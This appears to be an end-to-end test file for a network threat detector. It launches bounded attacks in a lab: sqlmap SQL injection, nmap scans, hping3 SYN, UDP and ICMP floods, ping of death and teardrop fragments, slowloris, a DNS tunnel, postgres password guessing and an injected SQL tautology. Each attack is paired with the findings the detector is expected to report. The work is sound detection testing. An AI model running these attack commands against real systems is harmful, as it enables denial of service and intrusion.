/**
 * Every attack the e2e launches from the attacker namespace with a real tool, bounded in packets and time,
 * and the threat findings that must come out of the capture for it.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { ThreatFinding } from '#core/finding.ts';
import { type AttackLab, addresses } from './attack-lab.ts';
import { passwordAttacks } from './password-attacks.ts';
import { payloadRequests } from './payload-requests.ts';
import { runIodine } from './run-iodine.ts';
import { ports } from './victim-servers.ts';

export type Attack = {
  name: string;
  /** Threat ids that must each be reported with the attacker as client. */
  threats: readonly string[];
  /** Which of those findings belong to this attack (target port or address, evidence). */
  matches(finding: ThreatFinding): boolean;
  /** iodine needs /dev/net/tun in both namespaces. */
  needsTun?: boolean;
  run(lab: AttackLab): unknown;
};

/** Tools that exit non-zero by design here (hping3 without replies, ssh refused): their packets are what count. */
const tolerant = (fn: () => unknown): void => {
  try {
    fn();
  } catch {
    // the packets were sent; detection is asserted on the capture
  }
};

const { victim, victimAlias } = addresses;
const toPort = (port: number) => (f: ThreatFinding) => f.server.port === port;
const toHost = (ip: string) => (f: ThreatFinding) => f.server.ip === ip;

/** 200 bytes from a fixed xorshift sequence: random-looking, the same every run. */
const randomBytes = (): Buffer => {
  let x = 0x2545f491;
  return Buffer.from(
    Array.from({ length: 200 }, () => {
      x ^= x << 13;
      x ^= x >>> 17;
      x ^= x << 5;
      return x & 0xff;
    }),
  );
};

/** Holds its connections 13 s: past slowloris's 10 s minimum age, well inside Node's 60 s headersTimeout on the victim. */
const slowlorisClient = fileURLToPath(new URL('./slowloris-client.py', import.meta.url));

const hping = (lab: AttackLab, args: string[]) =>
  tolerant(() => lab.attacker.exec('hping3', [...args], { timeoutMs: 15_000 }));

export const attacks: readonly Attack[] = [
  {
    name: 'sqlmap: boolean-based blind injection on GET id',
    // web-scanner: sqlmap names itself in its user-agent (web-scanner-real.test.ts).
    threats: ['sql-injection', 'web-scanner'],
    matches: toPort(ports.sqlmapTarget),
    run: (lab) =>
      lab.attacker.exec(
        'sqlmap',
        [
          '-u',
          `http://${victim}:${ports.sqlmapTarget}/item?id=1`,
          '-p',
          'id',
          '--batch',
          '--level=1',
          '--risk=1',
          '--technique=B',
          '--flush-session',
          '--disable-coloring',
          `--output-dir=${join(lab.dir, 'sqlmap')}`,
          `--tmp-dir=${join(lab.dir, 'sqlmap-tmp')}`,
        ],
        { timeoutMs: 60_000 },
      ),
  },
  ...passwordAttacks,
  ...payloadRequests.map(
    (request): Attack => ({
      name: `${request.tool} with a ${request.threat} payload`,
      threats: [request.threat],
      matches: (f) =>
        toPort(ports.payloadTarget)(f) &&
        (request.evidence === undefined || f.evidence.includes(request.evidence)),
      run: (lab) => request.run(lab.attacker, `${victim}:${ports.payloadTarget}`),
    }),
  ),
  {
    name: 'slowloris: 60 connections trickling header bytes',
    threats: ['slowloris'],
    matches: toPort(ports.payloadTarget),
    run: (lab) =>
      lab.attacker.exec('python3', [slowlorisClient, victim, String(ports.payloadTarget), '60', '13', '2'], {
        timeoutMs: 30_000,
      }),
  },
  {
    name: 'nmap SYN scan of ports 1-200',
    threats: ['port-scan'],
    matches: toHost(victim),
    run: (lab) =>
      lab.attacker.exec('nmap', ['-sS', '-n', '-Pn', '-T4', '--max-retries', '0', '-p', '1-200', victim]),
  },
  {
    name: 'nmap ping sweep of 64 addresses',
    threats: ['host-sweep'],
    matches: () => true,
    run: (lab) =>
      lab.attacker.exec('nmap', [
        '-sn',
        '-PE',
        '--send-ip',
        '-n',
        '-T5',
        '--max-retries',
        '0',
        addresses.sweep,
      ]),
  },
  {
    name: 'hping3 SYN flood (600 SYN, 100 µs apart)',
    threats: ['syn-flood'],
    matches: toPort(8082),
    run: (lab) => hping(lab, ['-S', '-p', '8082', '-c', '600', '-i', 'u100', victim]),
  },
  {
    name: 'hping3 UDP flood (10000 datagrams)',
    threats: ['udp-flood'],
    matches: toPort(9999),
    run: (lab) => hping(lab, ['--udp', '-p', '9999', '-c', '10000', '-i', 'u1', victim]),
  },
  {
    name: 'hping3 ICMP flood (300 echo requests, 1 ms apart)',
    threats: ['icmp-flood'],
    matches: toHost(victim),
    run: (lab) => hping(lab, ['--icmp', '-c', '300', '-i', 'u1000', victim]),
  },
  {
    name: 'hping3 ping of death (ICMP fragment at offset 65528)',
    threats: ['ping-of-death'],
    matches: (f) => f.server.ip === victim && /past 65535/.test(f.evidence),
    run: (lab) => hping(lab, ['--icmp', '-g', '65528', '-d', '100', '-c', '1', victim]),
  },
  {
    name: 'hping3 oversized ping (3000 bytes, fragmented)',
    threats: ['ping-of-death'],
    matches: (f) => f.server.ip === victimAlias && /oversized/.test(f.evidence),
    run: (lab) =>
      // A fixed IP id: hping3's default is getpid() & 255, and at 0 Linux gives each fragment its own id (1 run in 256).
      hping(lab, ['--icmp', '-N', '4343', '-d', '3000', '-m', '1400', '-c', '1', victimAlias]),
  },
  {
    name: 'hping3 teardrop: two ICMP fragments with one IP id, the second overlapping the first',
    threats: ['ip-fragment-attack'],
    matches: (f) => f.server.ip === victim && /overlapping/.test(f.evidence),
    run: (lab) => {
      hping(lab, ['--icmp', '-N', '4242', '-x', '-g', '0', '-d', '40', '-c', '1', victim]);
      hping(lab, ['--icmp', '-N', '4242', '-g', '24', '-d', '40', '-c', '1', victim]);
    },
  },
  {
    name: 'hping3 SYN carrying data',
    threats: ['tcp-syn-with-data'],
    matches: toPort(8083),
    run: (lab) => hping(lab, ['-S', '-p', '8083', '-d', '64', '-c', '2', '-i', 'u10000', victim]),
  },
  {
    name: 'iodine: IP over DNS, with traffic through the tunnel',
    threats: ['dns-tunnel', 'dns-type-null'],
    matches: toPort(53),
    needsTun: true,
    run: (lab) => runIodine(lab),
  },
  {
    name: 'ssh to the server listening on port 80',
    threats: ['protocol-mismatch'],
    matches: (f) => f.transport === 'tcp' && f.server.port === ports.sshMismatch,
    run: (lab) =>
      tolerant(() =>
        lab.attacker.exec('ssh', [
          '-o',
          'BatchMode=yes',
          '-o',
          'StrictHostKeyChecking=no',
          '-o',
          'UserKnownHostsFile=/dev/null',
          '-o',
          'ConnectTimeout=5',
          '-p',
          String(ports.sshMismatch),
          `nobody@${victim}`,
          'true',
        ]),
      ),
  },
  {
    name: 'openssl s_client forcing TLS 1.0',
    threats: ['weak-tls'],
    matches: toPort(ports.weakTls),
    run: (lab) =>
      lab.attacker.exec('openssl', [
        's_client',
        '-connect',
        `${victim}:${ports.weakTls}`,
        '-tls1',
        '-cipher',
        'DEFAULT@SECLEVEL=0',
      ]),
  },
  {
    name: 'dig AXFR zone transfer over TCP',
    threats: ['dns-zone-transfer'],
    matches: (f) => f.transport === 'tcp' && f.server.port === 53,
    run: (lab) =>
      tolerant(() =>
        lab.attacker.exec('dig', [`@${victimAlias}`, '+tries=1', '+time=2', 'cluster.local', 'AXFR']),
      ),
  },
  {
    name: 'psql: 12 password guesses for postgres',
    threats: ['db-auth-brute-force'],
    matches: toPort(5432),
    run: (lab) => {
      for (let i = 0; i < 12; i++)
        tolerant(() =>
          lab.attacker.exec('env', [
            `PGPASSWORD=guess-${i}`,
            'PGCONNECT_TIMEOUT=5',
            'psql',
            ...['-h', victim, '-U', 'postgres', '-w', '-c', 'SELECT 1'],
          ]),
        );
    },
  },
  {
    name: 'psql: an injected tautology inside a PostgreSQL statement',
    threats: ['sql-injection'],
    matches: toPort(5432),
    run: (lab) =>
      lab.attacker.exec('psql', [
        '-h',
        victim,
        '-U',
        'app',
        '-d',
        'postgres',
        '-c',
        "SELECT rolname FROM pg_roles WHERE rolname = '' OR '1'='1' --'",
      ]),
  },
  {
    name: 'nc: random bytes to udp/53',
    threats: ['protocol-mismatch'],
    matches: (f) => f.transport === 'udp' && f.server.port === 53,
    run: (lab) => {
      const file = join(lab.dir, 'random.bin');
      writeFileSync(file, randomBytes());
      tolerant(() => lab.attacker.exec('sh', ['-c', `nc -u -w1 ${victim} 53 < ${file}`]));
    },
  },
];
